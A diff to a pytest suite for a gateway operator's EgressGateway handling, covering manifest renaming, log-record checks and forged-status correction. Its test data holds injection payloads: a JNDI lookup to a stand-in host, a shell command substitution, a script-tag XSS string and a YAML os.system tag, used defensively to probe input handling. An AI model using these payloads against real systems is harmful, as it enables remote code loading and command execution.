@@ -35,7 +35,7 @@ TEXTS: Final = (
     "${jndi:ldap://evil.example/a}",
     "$(id)",
     "x: y # no comment",
-    "- a\t'\"`",
+    "- a'\"`",
     "%REQ(authorization)%",
     "\\u0000 <script>alert(1)</script>",
     "!!python/object:os.system",
@@ -61,6 +61,13 @@ FOREIGN_METADATA: Final = {
         "note": TEXTS[0],
     },
 }
+
+
+@pytest.fixture(scope="module")
+def plane(run: Run) -> Iterator[ControlPlane]:
+    """As elsewhere, but nobody judges statuses: some are forged here."""
+    with run.private(run.options()) as plane:
+        yield plane
 
 
 @pytest.fixture(scope="module")
@@ -114,13 +121,16 @@ class TestWithoutSchema:
 
 
 def stored_as(document: tuple[int, Document]) -> Object | None:
-    """An EgressGateway of the corpus under a name of its own; None for what only its name or its class makes bad."""
+    """
+    An EgressGateway of the corpus under a name and with hosts of its own: hundreds that want one host are another story.
+
+    None for what only its name or its class makes bad.
+    """
     number, found = document
-    manifest = copy.deepcopy(found.manifest)
-    spec = manifest.get("spec")
-    if manifest["kind"] != EGRESS_GATEWAY.kind or not isinstance(spec, dict) or found.label.startswith("names"):
+    manifest = json.loads(json.dumps(found.manifest).replace("a.example", f"a{number}.example"))
+    if manifest["kind"] != EGRESS_GATEWAY.kind or not isinstance(manifest.get("spec"), dict):
         return None
-    return {**manifest, "metadata": {"name": f"bad-{number}"}}
+    return None if found.label.startswith("names") else {**manifest, "metadata": {"name": f"bad-{number}"}}
 
 
 def numbered(documents: list[Document]) -> Iterator[tuple[int, Document]]:
@@ -146,9 +156,8 @@ def owners_of_children(plane: ControlPlane) -> set[str]:
 
 def check_log(log: Path) -> None:
     """Every line is one record of ours, and none of it is an error: no text of a user made a line of its own."""
-    lines = log.read_text().splitlines()
-    assert lines
-    records = [json.loads(line) for line in lines]
+    records = [json.loads(line) for line in log.read_text().split("\n") if line]
+    assert records
     assert [each for each in records if each["level"] == "error"] == []
 
 
@@ -163,7 +172,8 @@ class TestWithoutFieldValidation:
         # Unknown fields are all that the server then lets pass.
         assert 0 < len(passed) < len(documents) / 10
         eventually(lambda: not unanswered(world.plane), what="an answer to every object")
-        assert {gateways.condition(name, "Accepted")["reason"] for name in passed} <= {"Accepted", "HostConflict"}
+        reasons = {gateways.condition(name, "Accepted")["reason"] for name in passed}
+        assert reasons <= {"Accepted", "ConsumerNotAllowed"}
         for name in passed:
             gateways.delete(name)
         gateways.wait_gone(*passed)
@@ -285,17 +295,27 @@ class TestForgedStatus:
         gateways = world.of("forged")
         gateways.apply(name)
         gateways.wait_ready(name)
-        before = gateways.get(name)["status"]
+        before = told(gateways.get(name)["status"])
         gateways.cluster.rest.merge(f"{gateways.path(name)}/status", {"status": forged})
 
         def corrected() -> bool:
-            now = gateways.get(name)["status"]
-            return {key: now.get(key) for key in forged} == {key: before.get(key) for key in forged}
+            return told(gateways.get(name)["status"]) == before
 
         eventually(corrected, what="the status as it was")
         gateways.wait_ready(name)
         gateways.delete(name)
         gateways.wait_gone(name)
+
+
+def told(status: Object) -> Object:
+    """A status without times, and without what an object need not have."""
+    lists = {"claims": "host", "consumers": "namespace", "remoteChildren": "name"}
+    return {
+        **{key: status.get(key) for key in ("observedGeneration", "gateway", "summary", "provider")},
+        **{key: [each[name] for each in status.get(key) or ()] for key, name in lists.items()},
+        "conditions": conditions(status),
+        "destinations": [conditions(each) for each in status.get("destinations") or ()],
+    }
 
 
 def test_operator_logged_no_error(world: GatewayWorld) -> None:
